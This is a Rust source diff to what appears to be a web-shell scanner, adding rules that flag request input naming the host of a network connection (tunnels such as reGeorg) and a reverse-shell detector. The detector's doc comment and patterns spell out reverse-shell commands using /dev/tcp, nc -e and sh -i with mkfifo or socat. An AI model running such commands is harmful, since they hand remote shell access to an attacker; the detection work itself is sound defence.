@@ -97,6 +97,21 @@ impl Ctx<'_> {
             "defineclass" if call => ("code", "defineClass()".into()),
             "invoke" | "invokemember" if member && call => ("reflect", format!(".{name}()")),
             "forname" | "loadclass" | "newinstance" | "getmethod" if call => ("reflect", format!("{name}()")),
+            // Tunnels (reGeorg and kin): the request names the host the server connects to.
+            "socket" | "tcpclient" | "inetsocketaddress" | "ipendpoint" | "connect" | "gethostaddresses"
+            | "gethostentry" | "getbyname"
+                if call =>
+            {
+                if let Some(src) = self.tainted_in(range.0, range.1) {
+                    self.reason(
+                        "flow.tunnel",
+                        100,
+                        i,
+                        format!("request input {src} names the host of a network connection ({name})"),
+                    );
+                }
+                return;
+            }
             // File system writes and deletes: FSO / ADODB.Stream (ASP), System.IO (C#), java.io.
             "createtextfile" | "opentextfile" | "savetofile" | "copyfile" | "movefile" | "deletefile"
             | "deletefolder" | "createfolder" | "copyfolder" | "writealltext" | "writeallbytes"
@@ -130,6 +145,15 @@ impl Ctx<'_> {
                         100,
                         i,
                         format!("request input {src} reaches {label}"),
+                    );
+                } else if (range.0..range.1).any(
+                    |k| matches!(self.tok(k), Some(Tok::Str { val, .. }) if is_reverse_shell_command(val)),
+                ) {
+                    self.reason(
+                        "capability.reverse-shell",
+                        100,
+                        i,
+                        format!("{label} runs a shell wired to a network connection"),
                     );
                 }
             }
@@ -190,4 +214,15 @@ impl Ctx<'_> {
             }
         }
     }
+}
+
+/// A command line that wires a shell to a network connection: `bash -i >& /dev/tcp/h/p 0>&1`,
+/// `nc -e /bin/sh h p`, `sh -i` piped through a socket tool.
+pub(super) fn is_reverse_shell_command(v: &[u8]) -> bool {
+    let l = v.to_ascii_lowercase();
+    let has = |p: &[u8]| lex_php::find(&l, p).is_some();
+    has(b"/dev/tcp/")
+        || has(b"/dev/udp/")
+        || (has(b"nc ") || has(b"ncat ") || has(b"netcat ")) && (has(b" -e ") || has(b" -c "))
+        || has(b"sh -i") && (has(b"0>&1") || has(b"mkfifo") || has(b"socat"))
 }
